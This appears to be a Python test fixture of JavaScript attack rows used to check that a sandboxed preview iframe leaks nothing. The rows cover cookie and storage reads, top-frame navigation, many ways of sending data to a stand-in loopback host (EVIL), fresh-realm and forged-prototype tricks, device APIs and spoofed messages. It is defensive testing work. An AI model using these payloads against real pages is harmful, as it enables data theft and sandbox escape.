"""What an attacker tries in a preview: group and name → the body of an async function in the guest's page.

EVIL is an address on loopback that must see nothing, PORT its port. A row returns something truthy when it got hold
of what it must not have. What must not be here: how a row is played and judged.
"""

# ruff: noqa: E501 (one attack a line reads better than one attack in four pieces)

SETTLE = "await new Promise((done) => setTimeout(done, 120));"
FETCHES = "await fetch(EVIL).then(() => 1, () => 0)"


def element(tag: str, **properties: str) -> str:
    """Return code that makes an element, sets its properties and puts it into the page."""
    lines = "".join(f"e.{name.rstrip('_')} = {value};" for name, value in properties.items())
    return f'const e = document.createElement("{tag}"); {lines} document.body.append(e); {SETTLE}'


READS = {
    "cookie": "return document.cookie",
    "set a cookie": "document.cookie = 'a=b'; return document.cookie",
    "localStorage": "return localStorage.getItem('token') ?? 1",
    "sessionStorage": "return sessionStorage.length + 1",
    "indexedDB": "return await new Promise((y, n) => { const r = indexedDB.open('x'); r.onsuccess = () => y(1); r.onerror = n; })",
    "caches": "return await caches.open('x')",
    "file system": "return await navigator.storage.getDirectory()",
    "storage estimate": "return await navigator.storage.persist()",
    "parent document": "return parent.document.title",
    "parent global": "return parent.secret",
    "top document": "return top.document.body",
    "parent location": "return parent.location.href",
    "frame element": "return window.frameElement",
    "opener": "return window.opener",
    "sibling frames": "return parent.frames[0] === self ? 0 : parent.frames[0].document",
    "origin": "return self.origin !== 'null'",
    "credentials api": "return await navigator.credentials.get({ password: true })",
    "broadcast channel": "return await new Promise((y) => { const c = new BroadcastChannel('x'); c.onmessage = y; setTimeout(() => y(0), 50); })",
    "locks": "return await navigator.locks.request('x', () => 1)",
}

ESCAPES = {
    "top navigation": f"top.location = EVIL; {SETTLE}",
    "top navigation by href": f"top.location.href = EVIL; {SETTLE}",
    "parent navigation by replace": f"parent.location.replace(EVIL); {SETTLE}",
    "link to top": element("a", href="EVIL", target="'_top'") + f"e.click(); {SETTLE}",
    "link to parent": element("a", href="EVIL", target="'_parent'") + f"e.click(); {SETTLE}",
    "open a window": f"const w = open(EVIL); {SETTLE} return w",
    "open a blank window": "return open('about:blank')",
    "link to a new window": element("a", href="EVIL", target="'_blank'") + f"e.click(); {SETTLE}",
    "download": element("a", href="'data:text/plain,x'", download="'x'") + "e.click()",
    "title": "document.title = 'Stolen'; return parent.document.title === 'Stolen'",
    "history flood": "for (let i = 0; i < 30; i++) history.pushState({}, '', '#' + i); return history.length > 20",
    "history back": f"history.back(); {SETTLE}",
    "fullscreen": "return await document.documentElement.requestFullscreen().then(() => 1)",
    "pointer lock": "await document.body.requestPointerLock(); return document.pointerLockElement",
    "alert": "return alert('x')",
    "confirm": "return confirm('x')",
    "prompt": "return prompt('x')",
    "print": "print(); return 0",
    "before unload": f"addEventListener('beforeunload', (e) => e.preventDefault()); {SETTLE}",
}

SENDS = {
    "fetch": f"return {FETCHES}",
    "fetch no-cors": "return await fetch(EVIL, { mode: 'no-cors' }).then(() => 1, () => 0)",
    "fetch keepalive": "return await fetch(EVIL, { keepalive: true, method: 'POST', body: 'x' }).then(() => 1, () => 0)",
    "fetch the app": "return await fetch('/api/v1/me').then(() => 1, () => 0)",
    "fetch later": "return fetchLater(EVIL, { activateAfter: 0 })",
    "xhr": f"const x = new XMLHttpRequest(); x.open('GET', EVIL); x.send(); {SETTLE} return x.status",
    "sync xhr": "const x = new XMLHttpRequest(); x.open('GET', EVIL, false); x.send(); return x.status",
    "websocket": f"const s = new WebSocket(EVIL.replace('http', 'ws')); {SETTLE} return s.readyState === 1",
    "event source": f"const s = new EventSource(EVIL); {SETTLE} return s.readyState === 1",
    "beacon": f"navigator.sendBeacon(EVIL, 'x'); {SETTLE}",
    "image": f"new Image().src = EVIL; {SETTLE}",
    "image srcset": element("img", srcset="EVIL"),
    "picture source": f"document.body.innerHTML = `<picture><source srcset=${{EVIL}}><img></picture>`; {SETTLE}",
    "svg image": f"document.body.innerHTML = `<svg><image href=${{EVIL}} /></svg>`; {SETTLE}",
    "svg use": f"document.body.innerHTML = `<svg><use href='${{EVIL}}x.svg#a' /></svg>`; {SETTLE}",
    "svg filter image": f"document.body.innerHTML = `<svg><filter id=f><feImage href=${{EVIL}} /></filter><rect filter='url(#f)' width=9 height=9 /></svg>`; {SETTLE}",
    "video": element("video", src="EVIL"),
    "video poster": element("video", poster="EVIL"),
    "audio": element("audio", src="EVIL"),
    "text track": f"document.body.innerHTML = `<video src='data:video/mp4,'><track default src=${{EVIL}}></video>`; {SETTLE}",
    "css background": f"document.body.style.background = `url(${{EVIL}})`; {SETTLE}",
    "css import": element("style", textContent="`@import url(${EVIL});`"),
    "css font": element(
        "style", textContent="`@font-face { font-family: q; src: url(${EVIL}) } body { font-family: q }`"
    ),
    "css cursor": element("style", textContent="`body { cursor: url(${EVIL}), auto }`"),
    "font face": f"document.fonts.add(await new FontFace('q', `url(${{EVIL}})`).load()); {SETTLE}",
    "constructed sheet": f"const s = new CSSStyleSheet(); s.replaceSync(`body {{ background: url(${{EVIL}}) }}`); document.adoptedStyleSheets = [s]; {SETTLE}",
    "script": element("script", src="EVIL"),
    "module script": element("script", type="'module'", src="EVIL"),
    "dynamic import": "return await import(EVIL)",
    "import from data": "return await import('data:text/javascript,export default 1')",
    **{
        f"link {rel}": element("link", rel=f"'{rel}'", href="EVIL", as_="'image'")
        for rel in (
            "stylesheet",
            "prefetch",
            "preload",
            "modulepreload",
            "preconnect",
            "dns-prefetch",
            "prerender",
            "icon",
            "manifest",
            "expect",
            "search",
            "compression-dictionary",
        )
    },
    "link by markup": f"document.body.innerHTML = `<link rel=preconnect href=${{EVIL}}><link rel=stylesheet href=${{EVIL}}>`; {SETTLE}",
    "link by adjacent markup": f"document.head.insertAdjacentHTML('beforeend', `<link rel=preconnect href=${{EVIL}}>`); {SETTLE}",
    "link by fragment": f"document.head.append(document.createRange().createContextualFragment(`<link rel=preconnect href=${{EVIL}}>`)); {SETTLE}",
    "link by parser and adoption": f"document.head.append(new DOMParser().parseFromString(`<link rel=preconnect href=${{EVIL}}>`, 'text/html').head); {SETTLE}",
    "link by xhtml parser": f"document.head.append(new DOMParser().parseFromString(`<x:link xmlns:x='http://www.w3.org/1999/xhtml' rel='preconnect' href='${{EVIL}}'/>`, 'text/xml').documentElement); {SETTLE}",
    "link in a template": f"const t = document.createElement('template'); t.innerHTML = `<link rel=preconnect href=${{EVIL}}>`; document.head.append(t.content.cloneNode(true)); {SETTLE}",
    "link in a shadow tree": f"const s = document.body.attachShadow({{ mode: 'closed' }}); s.innerHTML = `<link rel=preconnect href=${{EVIL}}><link rel=stylesheet href=${{EVIL}}>`; {SETTLE}",
    "link changed after it is in": element("link", rel="'x'") + f"e.rel = 'preconnect'; e.href = EVIL; {SETTLE}",
    "link by a replaced body": f"const b = document.createElement('body'); b.append(Object.assign(document.createElement('link'), {{ rel: 'preconnect', href: EVIL }})); document.body = b; {SETTLE}",
    "link in a declarative shadow tree": f"document.body.setHTMLUnsafe(`<p><template shadowrootmode=open><link rel=preconnect href=${{EVIL}}></template></p>`); {SETTLE}",
    "speculation rules": element(
        "script",
        type="'speculationrules'",
        textContent="JSON.stringify({ prefetch: [{ source: 'list', urls: [EVIL] }] })",
    ),
    "speculation rules later": element("script", type="'x'")
    + f"e.type = 'speculationrules'; e.textContent = JSON.stringify({{ prefetch: [{{ urls: [EVIL] }}] }}); {SETTLE}",
    "form": f"document.body.innerHTML = `<form action=${{EVIL}}><input name=q value=1></form>`; document.forms[0].submit(); {SETTLE}",
    "form to the app": f"document.body.innerHTML = `<form method=post action=/auth/sign-out></form>`; document.forms[0].requestSubmit(); {SETTLE}",
    "meta refresh": element("meta", httpEquiv="'refresh'", content="`0;url=${EVIL}`"),
    "meta refresh later": element("meta") + f"e.httpEquiv = 'refresh'; e.content = `0;url=${{EVIL}}`; {SETTLE}",
    "base": "document.head.innerHTML = `<base href=${EVIL}>`; return document.baseURI.startsWith(EVIL)",
    "self navigation": f"location = EVIL; {SETTLE}",
    "self navigation by replace": f"location.replace(EVIL + '?secret'); {SETTLE}",
    "self navigation to the app": f"location = '/api/v1/me'; {SETTLE}",
    "self navigation to data": f"location = `data:text/html,<script>new Image().src='${{EVIL}}'</scr` + `ipt>`; {SETTLE}",
    "self navigation to a blob": f"location = URL.createObjectURL(new Blob([`<script>fetch('${{EVIL}}')</scr` + `ipt>`], {{ type: 'text/html' }})); {SETTLE}",
    "script address with a document": f"location = `javascript:'<iframe></iframe><script>const p = new (window[0].RTCPeerConnection)({{ iceServers: [{{ urls: \"stun:127.0.0.1:${{PORT}}\" }}] }}); p.createDataChannel(0); p.createOffer().then((o) => p.setLocalDescription(o))</scr` + `ipt>'`; {SETTLE}{SETTLE}",
    "link with a ping": element("a", href="'#x'", ping="EVIL") + f"e.click(); {SETTLE}",
    "object": element("object", data="EVIL"),
    "embed": element("embed", src="EVIL"),
    "frame": element("iframe", src="EVIL"),
    "frame with markup": element("iframe", srcdoc="`<img src=${EVIL}>`"),
    "worker fetch": f"new Worker(URL.createObjectURL(new Blob([`fetch('${{EVIL}}')`]))); {SETTLE}",
    "worker import": f"new Worker(URL.createObjectURL(new Blob([`importScripts('${{EVIL}}')`]))); {SETTLE}",
    "worker socket": f"new Worker(URL.createObjectURL(new Blob([`new WebSocket('${{EVIL.replace('http', 'ws')}}')`]))); {SETTLE}",
    "worker transport": f"new Worker(URL.createObjectURL(new Blob([`new WebTransport('https://127.0.0.1:${{PORT}}/')`]))); {SETTLE}",
    "worker address": f"new Worker(EVIL); {SETTLE}",
    "shared worker": f"new SharedWorker(URL.createObjectURL(new Blob([`fetch('${{EVIL}}')`]))); {SETTLE}",
    "service worker": "return await navigator.serviceWorker.register('/rt/react.js')",
    "worklet": f"await CSS.paintWorklet?.addModule(EVIL); {SETTLE}",
    "audio worklet": f"await new AudioContext().audioWorklet.addModule(EVIL); {SETTLE}",
    "xslt": "return typeof XSLTProcessor !== 'undefined'",
    "reporting": element("script", textContent="'x'") + f"return document.querySelector('[report-uri]'); {SETTLE}",
}

RTC = "typeof RTCPeerConnection !== 'undefined' || typeof webkitRTCPeerConnection !== 'undefined'"
FRESH = "return window[0]?.RTCPeerConnection ?? (typeof f !== 'undefined' && f.contentWindow?.RTCPeerConnection)"
REALMS = {
    "peer connection": f"return {RTC}",
    "web transport": "return typeof WebTransport !== 'undefined'",
    "frame by append": f"const f = document.createElement('iframe'); document.body.append(f); {FRESH}",
    "frame by appendChild": f"const f = document.createElement('iframe'); document.body.appendChild(f); {FRESH}",
    "frame by insertBefore": f"const f = document.createElement('iframe'); document.body.insertBefore(f, null); {FRESH}",
    "frame by replaceWith": f"const f = document.createElement('iframe'); document.body.firstChild.replaceWith(f); {FRESH}",
    "frame by innerHTML": f"document.body.innerHTML = '<div><iframe></iframe></div>'; {FRESH}",
    "frame by outerHTML": f"document.body.firstElementChild.outerHTML = '<iframe></iframe>'; {FRESH}",
    "frame by insertAdjacentHTML": f"document.body.insertAdjacentHTML('afterbegin', '<iframe></iframe>'); {FRESH}",
    "frame by insertAdjacentElement": f"const f = document.createElement('iframe'); document.body.insertAdjacentElement('beforeend', f); {FRESH}",
    "frame by range": f"const f = document.createElement('iframe'); document.createRange().insertNode.call(new Range(), f); {FRESH}",
    "frame by fragment": f"document.body.append(document.createRange().createContextualFragment('<iframe></iframe>')); {FRESH}",
    "frame by parsed body": f"document.body = new DOMParser().parseFromString('<body><iframe></iframe>', 'text/html').body; {FRESH}",
    "frame by xhtml": f"document.body.append(document.importNode(new DOMParser().parseFromString('<q:iframe xmlns:q=\"http://www.w3.org/1999/xhtml\"/>', 'text/xml').documentElement, true)); {FRESH}",
    "frame by document.write": f"document.write('<iframe></iframe>'); {FRESH}",
    "frame by document.open": f"document.open(); document.write('<iframe></iframe>'); document.close(); {FRESH}",
    "frame by setHTMLUnsafe": f"document.body.setHTMLUnsafe('<iframe></iframe>'); {FRESH}",
    "frame by command": f"document.body.contentEditable = true; getSelection().selectAllChildren(document.body); document.execCommand('insertHTML', false, '<iframe></iframe>'); {FRESH}",
    "frame by command in capitals": f"document.designMode = 'on'; document.execCommand('INSERTHTML', false, '<iframe></iframe>'); {FRESH}",
    "frame in a shadow tree": "const s = document.body.attachShadow({ mode: 'open' }); s.innerHTML = '<iframe></iframe>'; return s.querySelector('iframe')?.contentWindow",
    "frame by template": f"const t = document.createElement('template'); t.innerHTML = '<template><iframe></iframe></template>'; document.body.append(t.content.firstChild?.content ?? ''); {FRESH}",
    "frame set": f"document.body = document.createElement('frameset'); const f = document.createElement('frame'); document.body.append(f); {FRESH}",
    "object as a frame": element("object", type="'text/html'", data="'about:blank'") + FRESH,
    "frame past a forged prototype": f"Array.prototype[Symbol.iterator] = function* () {{}}; Element.prototype.querySelectorAll = () => []; Element.prototype.matches = () => false; Reflect.apply = () => {{}}; const f = document.createElement('iframe'); document.body.append(f); {FRESH}",
    "frame past forged getters": f"Object.defineProperty(Element.prototype, 'localName', {{ get: () => 'p' }}); Object.defineProperty(Node.prototype, 'nodeType', {{ get: () => 3 }}); document.body.append(document.createElement('iframe')); {FRESH}",
    "frame by node map": f"const f = document.createElement('iframe'); document.createElement('table').caption; document.body.replaceChildren(f); {FRESH}",
    "frame in svg": f"document.body.innerHTML = '<svg><foreignObject><iframe></iframe></foreignObject></svg>'; {FRESH}",
    "frame by text that parses twice": f"document.body.innerHTML = '<form><math><mtext></form><form><mglyph><style></math><iframe></iframe>'; {FRESH}",
    "natives by a getter left": "return Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow').get.call(document.createElement('iframe'))",
}

DEVICES = {
    "camera": "return await navigator.mediaDevices.getUserMedia({ video: true })",
    "screen": "return await navigator.mediaDevices.getDisplayMedia()",
    "position": "return await new Promise((y) => navigator.geolocation.getCurrentPosition(y, () => y(0)))",
    "clipboard read": "return await navigator.clipboard.readText()",
    "clipboard write": "await navigator.clipboard.writeText('x'); return 1",
    "notification": "return Notification.permission === 'granted' || (await Notification.requestPermission()) === 'granted'",
    "midi": "return await navigator.requestMIDIAccess()",
    "usb": "return await navigator.usb.requestDevice({ filters: [] })",
    "serial": "return await navigator.serial.requestPort()",
    "hid": "return (await navigator.hid.requestDevice({ filters: [] })).length",
    "bluetooth": "return await navigator.bluetooth.requestDevice({ acceptAllDevices: true })",
    "wake lock": "return await navigator.wakeLock.request('screen')",
    "share": "return await navigator.share({ text: 'x' })",
    "payment": "return await new PaymentRequest([{ supportedMethods: EVIL }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()",
    "file picker": "return await showOpenFilePicker()",
    "local fonts": "return (await queryLocalFonts()).length",
    "idle": "return await IdleDetector.requestPermission() === 'granted'",
    "picture in picture window": "return await documentPictureInPicture.requestWindow()",
}

FOCUS = {
    "focus": "document.body.innerHTML = '<input id=i>'; document.querySelector('#i').focus();" + SETTLE,
    "window focus": f"window.focus(); {SETTLE}",
    "autofocus": f"document.body.innerHTML = '<input autofocus>'; {SETTLE}",
    "select": "document.body.innerHTML = '<input id=i value=x>'; document.querySelector('#i').select();" + SETTLE,
    "label click": "document.body.innerHTML = '<label for=i id=l>x</label><input id=i>'; document.querySelector('#l').click();"
    + SETTLE,
    "fragment": f"document.body.innerHTML = '<input id=i>'; location.hash = '#i'; {SETTLE}",
    "modal": f"document.body.innerHTML = '<dialog id=d><input></dialog>'; document.querySelector('#d').showModal(); {SETTLE}",
    "selection": f"document.body.innerHTML = '<p contenteditable id=i>x</p>'; getSelection().selectAllChildren(document.querySelector('#i')); {SETTLE}",
}

SPOOFS = {
    "message as the shell": "parent.postMessage({ type: 'ready' }, '*'); parent.postMessage({ type: 'console', lines: [{ text: '<img src=x onerror=alert(1)>' }] }, '*');",
    "second build": "window.postMessage({ type: 'build', build: { html: 'x' } }, '*', [new MessageChannel().port1]);"
    + SETTLE
    + "return document.body.textContent === 'x'",
    "the port by a forged event": "let port; Object.defineProperty(MessageEvent.prototype, 'data', { get() { port = this.target; } });"
    + SETTLE
    + "return port",
    "the port by a forged postMessage": "let port; MessagePort.prototype.postMessage = function () { port = this; }; console.log('x');"
    + SETTLE
    + "return port",
    # It would end somebody's following. A key among what the frame said fails the test.
    "a key that nobody pressed": "class Pressed extends KeyboardEvent { get isTrusted() { return true; } }"
    "for (const key of [new KeyboardEvent('keydown', { key: 'x', bubbles: true }), new Pressed('keydown', { key: 'x' })]) {"
    " try { Object.defineProperty(key, 'isTrusted', { value: true }); } catch {}"
    " document.body.dispatchEvent(key); window.dispatchEvent(key); }"
    "try { Object.defineProperty(Event.prototype, 'isTrusted', { get: () => true }); } catch {}"
    "window.dispatchEvent(new KeyboardEvent('keydown', { key: 'x' }));",
}

ATTACKS = {
    f"{group}: {name}": code
    for group, rows in (
        ("read", READS), ("escape", ESCAPES), ("send", SENDS), ("realm", REALMS), ("device", DEVICES),
        ("focus", FOCUS), ("spoof", SPOOFS),
    )
    for name, code in rows.items()
}  # fmt: skip

# Chromium opens a connection for a navigation before it asks the policy, and says nothing on it: the name of a host
# can be looked up, no request is made. These rows therefore count requests; every other row counts connections too.
NAVIGATES = frozenset(
    {"send: self navigation", "send: self navigation by replace", "send: meta refresh later", "send: meta refresh"}
)
